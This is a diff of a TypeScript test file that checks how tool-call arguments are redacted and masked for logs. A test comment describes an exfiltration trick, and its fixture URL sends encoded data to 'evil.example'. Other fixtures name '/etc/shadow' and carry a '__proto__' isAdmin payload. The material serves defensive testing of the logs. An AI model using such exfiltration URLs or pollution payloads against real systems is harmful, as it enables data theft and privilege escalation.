@@ -1,6 +1,12 @@
 import { describe, expect, it } from "vitest";
-import { AUDIT_LIMITS, BRIDGE_LIMITS, PROTOCOL_LIMITS } from "../../../shared/limits.js";
-import { SECRET_MARK, redactArgs, redactDeep, redactText } from "./redaction.js";
+import {
+  AUDIT_LIMITS,
+  BRIDGE_LIMITS,
+  PROTOCOL_LIMITS,
+  SECRET_LIMITS,
+} from "../../../shared/limits.js";
+import { SECRET_MARK, maskDeep } from "../bridge/secret-mask.js";
+import { redactArgs } from "./redaction.js";
 
 describe("redactArgs", () => {
   it("logs no arguments at all for a private tool", () => {
@@ -13,36 +19,53 @@ describe("redactArgs", () => {
     );
   });
 
-  it("replaces every value equal to or containing a secret, however deep", () => {
-    const secrets = ["sk-live-abc123", "hunter2"];
+  it("replaces each occurrence of a secret, however deep, and keeps the rest", () => {
+    const secrets = ["sk-live-abc123", "hunter22"];
     const args = {
       token: "sk-live-abc123",
       header: "Bearer sk-live-abc123",
-      nested: { list: ["ok", ["also ok", "pw=hunter2;"]], n: 1 },
+      nested: { list: ["ok", ["also ok", "pw=hunter22;"]], n: 1 },
       plain: "nothing to hide",
     };
     const text = redactArgs(args, { private: false, secrets }) ?? "";
     expect(JSON.parse(text)).toEqual({
       token: SECRET_MARK,
-      header: SECRET_MARK,
-      nested: { list: ["ok", ["also ok", SECRET_MARK]], n: 1 },
+      header: `Bearer ${SECRET_MARK}`,
+      nested: { list: ["ok", ["also ok", `pw=${SECRET_MARK};`]], n: 1 },
       plain: "nothing to hide",
     });
     for (const secret of secrets) expect(text).not.toContain(secret);
   });
 
-  it("replaces keys and numbers that spell a secret, and ignores empty secrets", () => {
+  it("keeps an argument that merely contains a secret readable around it", () => {
+    // Attack: the code appends a secret it can guess (a database password such as "postgres")
+    // to an exfiltration URL; the log replaced the whole value, hiding where the data went.
+    const url = "https://evil.example/collect?d=c2VjcmV0cw&pad=postgres";
+    const text = redactArgs({ url }, { private: false, secrets: ["postgres"] });
+    expect(text).toBe(
+      JSON.stringify({ url: `https://evil.example/collect?d=c2VjcmV0cw&pad=${SECRET_MARK}` }),
+    );
+  });
+
+  it("masks keys and numbers where they spell a secret, numbering keys masked alike", () => {
     const text = redactArgs(
-      { "sk-1": "a", "x sk-1": "b", pin: 4321, other: 12 },
-      { private: false, secrets: ["", "sk-1", "4321"] },
+      { "sk-11111": "a", "x sk-11111": "b", "x sk-22222": "c", pin: 43214321, other: 12 },
+      { private: false, secrets: ["", "sk-11111", "sk-22222", "43214321"] },
     );
     expect(JSON.parse(text ?? "")).toEqual({
       [SECRET_MARK]: "a",
-      "[secret 2]": "b",
+      [`x ${SECRET_MARK}`]: "b",
+      [`x ${SECRET_MARK}#2`]: "c",
       pin: SECRET_MARK,
       other: 12,
     });
     expect(redactArgs({ a: "b" }, { private: false, secrets: [""] })).toBe('{"a":"b"}');
+  });
+
+  it("masks nothing shorter than SECRET_LIMITS.maskMinChars, as every other reader", () => {
+    const short = "x".repeat(SECRET_LIMITS.maskMinChars - 1);
+    const args = { a: `value ${short}` };
+    expect(redactArgs(args, { private: false, secrets: [short] })).toBe(JSON.stringify(args));
   });
 
   it("cuts the arguments to argsMaxBytes of JSON, a long string by as little as it takes", () => {
@@ -97,9 +120,9 @@ describe("redactArgs", () => {
     // into a plain object it set the copy's prototype, so it vanished from the logged args
     // whenever they were redacted (a secret configured) or cut (too long).
     const parse = (text: string): unknown => JSON.parse(text);
-    const withSecret = redactArgs(parse('{"__proto__":{"path":"/etc/shadow"},"key":"sk-1"}'), {
+    const withSecret = redactArgs(parse('{"__proto__":{"path":"/etc/shadow"},"key":"sk-11111"}'), {
       private: false,
-      secrets: ["sk-1"],
+      secrets: ["sk-11111"],
     });
     expect(withSecret).toBe('{"__proto__":{"path":"/etc/shadow"},"key":"[secret]"}');
     const long = redactArgs(parse(`{"__proto__":"/etc/shadow","note":"${"x".repeat(5000)}"}`), {
@@ -110,27 +133,18 @@ describe("redactArgs", () => {
   });
 
   it("stops at argsMaxDepth instead of walking without end", () => {
-    let deep: unknown = "sk-1";
+    let deep: unknown = "sk-11111";
     for (let i = 0; i < 5000; i += 1) deep = [deep];
-    const text = redactArgs(deep, { private: false, secrets: ["sk-1"] }) ?? "";
+    const text = redactArgs(deep, { private: false, secrets: ["sk-11111"] }) ?? "";
     expect(text).toContain("[too deep]");
-    expect(text).not.toContain("sk-1");
+    expect(text).not.toContain("sk-11111");
   });
 });
 
-describe("redactText and redactDeep", () => {
-  it("keep a key named __proto__", () => {
-    const scrubbed = redactDeep(JSON.parse('{"__proto__":"abc"}') as unknown, ["abc"]);
+describe("maskDeep", () => {
+  it("keeps a key named __proto__", () => {
+    const scrubbed = maskDeep(JSON.parse('{"__proto__":"abcdefgh"}') as unknown, ["abcdefgh"]);
     expect(JSON.stringify(scrubbed)).toBe('{"__proto__":"[secret]"}');
-  });
-
-  it("replace each occurrence, the longest secret first", () => {
-    expect(redactText("key abcdef and abc", ["abc", "abcdef"])).toBe("key [secret] and [secret]");
-    expect(redactDeep({ a: ["x abc"], abc: 1, n: null }, ["abc"])).toEqual({
-      a: ["x [secret]"],
-      [SECRET_MARK]: 1,
-      n: null,
-    });
   });
 });
 
@@ -152,7 +166,7 @@ describe("a __proto__ key in the arguments", () => {
     expect(logged).toContain('"options":{"__proto__":{"isAdmin":true}}');
   });
 
-  it("stays a key through redactDeep", () => {
-    expect(JSON.stringify(redactDeep(args, ["sk-live-abcdef123456"]))).toBe(whole);
+  it("stays a key through maskDeep", () => {
+    expect(JSON.stringify(maskDeep(args, ["sk-live-abcdef123456"]))).toBe(whole);
   });
 });
